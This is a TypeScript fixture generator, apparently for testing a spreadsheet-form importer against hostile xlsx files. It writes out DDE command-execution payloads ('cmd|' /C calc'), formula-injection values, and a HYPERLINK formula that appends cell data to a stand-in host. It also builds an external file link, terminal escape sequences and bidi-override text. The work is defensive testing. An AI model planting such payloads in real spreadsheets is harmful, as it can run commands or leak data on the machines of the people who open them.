// Forms with formulas, links and texts that could do harm where they are read.
import { blankForm, filledForm } from "./filled-form";
import type { Folder } from "./folder";
import { BOOK, BOOK_RELATIONS, cellOf, rewritten, TABLE, TEXTS, withContent } from "./parts";

const RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

export async function hostileTextFiles(): Promise<Folder> {
  return {
    "text/own-formula.xlsx": rewritten(await filledForm("E52"), {
      [TABLE]: withContent("xi_study_count", "<f>SUM(2,3)</f><v>5</v>"),
    }),
    "text/external-link.xlsx": await externalLink("E53"),
    "text/dde.xlsx": rewritten(await filledForm("E54"), {
      [TABLE]: withContent("xi_study_count", "<f>cmd|' /C calc'!A0</f><v>1</v>"),
    }),
    "text/begins-like-formula.xlsx": await filledForm("E55", {
      figures: {
        xi_study_count: "=cmd|' /C calc'!A0",
        xi_study_attendance: "+1+cmd|' /C calc'!A0",
        preaching_count: "-2+3+cmd|' /C calc'!A0",
        preaching_attendance: "@SUM(1+9)*cmd|' /C calc'!A0",
        research_count: "\t=1+1",
        research_attendance: '=HYPERLINK("http://example.invalid/?"&A1,"点此核对")',
        contact: "=1+1",
      },
    }),
    "text/hyperlinks.xlsx": await hyperlinks("E56"),
    "text/longest-text.xlsx": rewritten(await filledForm("E57"), {
      [TABLE]: withContent("xi_study_count", `<is><t>${"三".repeat(32_767)}</t></is>`, "inlineStr"),
    }),
    "text/control-characters.xlsx": rewritten(await filledForm("E58"), {
      [TABLE]: withContent("xi_study_count", "<is><t>3_x0007__x0008_场_x001B_[2J</t></is>", "inlineStr"),
    }),
    "text/terminal-escapes.xlsx": await terminalEscapes(),
    "text/right-to-left.xlsx": await filledForm("E59", {
      figures: { xi_study_count: "\u202e21", preaching_count: "\u2066约3\u2069", research_count: "\u200f7" },
    }),
    "text/specials.xlsx": await blankForm(`<单位 a="b">&amp;'"]]>`),
    "text/sheet-named-with-specials.xlsx": rewritten(await filledForm("E60"), {
      [BOOK]: (text) =>
        text
          .replace('name="统计表"', `name="&lt;统计&gt;&amp;'=1+1"`)
          .replaceAll("'统计表'!", "'&lt;统计&gt;&amp;''=1+1'!"),
    }),
    "text/many-lines.xlsx": await filledForm("E61", {
      figures: { xi_study_count: "3场\r\n其中：\n讲座 2", preaching_count: "1\n\n\n2" },
    }),
  };
}

async function externalLink(unit: string): Promise<Uint8Array> {
  const path = "externalLinks/externalLink1.xml";
  const target = "file:///C:/%E6%B1%87%E6%80%BB/%E5%85%B6%E4%BB%96.xlsx";
  const type = (name: string): string => `${RELATIONS}/${name}`;
  return rewritten(await filledForm(unit), {
    [TABLE]: withContent("xi_study_count", "<f>[1]Sheet1!$A$1</f><v>9</v>"),
    [BOOK]: (text) =>
      text.replace(
        "<definedNames>",
        '<externalReferences><externalReference r:id="rIdX"/></externalReferences><definedNames>',
      ),
    [BOOK_RELATIONS]: (text) =>
      text.replace(
        "</Relationships>",
        `<Relationship Id="rIdX" Type="${type("externalLink")}" Target="${path}"/></Relationships>`,
      ),
    [`xl/${path}`]: () =>
      `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${RELATIONS}"><externalBook r:id="rId1"/></externalLink>`,
    [`xl/externalLinks/_rels/externalLink1.xml.rels`]: () =>
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${type("externalLinkPath")}" Target="${target}" TargetMode="External"/></Relationships>`,
  });
}

async function hyperlinks(unit: string): Promise<Uint8Array> {
  const link = `<hyperlinks><hyperlink ref="${cellOf("xi_study_count")}" r:id="rIdL" tooltip="点此"/></hyperlinks>`;
  const withLink = rewritten(await filledForm(unit), {
    [TABLE]: (text) => text.replace(/(?=<printOptions|<pageMargins)/, link),
    "xl/worksheets/_rels/sheet2.xml.rels": () =>
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdL" Type="${RELATIONS}/hyperlink" Target="http://example.invalid/" TargetMode="External"/></Relationships>`,
  });
  return rewritten(withLink, {
    [TABLE]: withContent("preaching_count", '<f>HYPERLINK("http://example.invalid/","3")</f><v>3</v>', "str"),
  });
}

/** A unit's name that would clear the screen and repaint it, in a blank form. */
async function terminalEscapes(): Promise<Uint8Array> {
  const typed = "_x001B_[2J_x001B_]0;改标题_x0007_舟山\u009b31m";
  return rewritten(await blankForm("某单位"), {
    [TEXTS]: (text) => text.replaceAll("<t>某单位</t>", `<t>${typed}</t>`),
  });
}
